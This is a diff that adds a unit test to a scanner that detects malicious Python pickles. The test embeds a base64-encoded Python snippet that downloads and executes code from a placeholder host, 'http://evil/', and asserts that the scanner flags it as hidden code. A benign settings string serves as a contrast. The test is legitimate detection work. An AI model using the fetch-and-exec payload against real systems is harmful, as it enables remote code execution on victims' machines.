@@ -135,4 +135,21 @@ class EncodedPickleTest {
         assertThat(rules(scan(Pickles.protocol(4).payload(backwards).stop())))
                 .containsExactly("pickle.nested-denied-global");
     }
+
+    @Test
+    void codeThatIsEncodedIsSuspicious() {
+        String code = "\n# optimizes\nimport urllib.request\nexec(urllib.request.urlopen('http://evil/').read())\n";
+        String settings = "model:\n  type: transformer\n  layers: 12\n";
+        Base64.Encoder base64 = Base64.getEncoder();
+
+        assertThat(rules(scan(Pickles.protocol(4)
+                        .text(base64.encodeToString(code.getBytes(StandardCharsets.UTF_8)))
+                        .stop())))
+                .containsExactly("pickle.hidden-code");
+        assertThat(scan(Pickles.protocol(4)
+                                .text(base64.encodeToString(settings.getBytes(StandardCharsets.UTF_8)))
+                                .stop())
+                        .findings())
+                .isEmpty();
+    }
 }
